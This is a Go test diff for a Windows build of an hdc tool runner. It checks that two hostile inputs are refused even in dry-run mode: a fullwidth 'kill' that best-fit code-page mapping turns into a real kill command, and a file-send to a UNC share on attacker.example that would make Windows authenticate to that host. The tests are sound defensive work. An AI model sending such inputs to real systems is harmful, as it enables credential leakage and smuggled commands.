@@ -35,3 +35,23 @@ func serveHDC(t *testing.T, cfg winexec.Config) (*client.Client, context.Context
 	t.Cleanup(func() { c.Close() })
 	return c, ctx
 }
+
+// windowsOnlyRefusals are hdc_run calls that a Windows hdc must refuse:
+// fullwidth "kill" (the ANSI code page's best-fit mapping makes it kill)
+// and a network-share path (Windows would authenticate to its host).
+var windowsOnlyRefusals = [][]string{
+	{"ｋｉｌｌ"},
+	{"-t", "K1", "file", "send", `\\attacker.example\share\x`, "/data/local/tmp/x"},
+}
+
+// expectWindowsRefusals checks that c's hdc_run refuses
+// windowsOnlyRefusals, even as a dry run; exe names the hdc in messages.
+func expectWindowsRefusals(ctx context.Context, t *testing.T, c *client.Client, exe string) {
+	t.Helper()
+	for _, args := range windowsOnlyRefusals {
+		res, err := c.CallTool(ctx, hdc.ToolRun, map[string]any{"args": args, "dryRun": true})
+		if err != nil || !res.IsError {
+			t.Errorf("HDC_EXE %q: hdc_run %q = %v %q; want refused", exe, args, err, res.TextOf())
+		}
+	}
+}
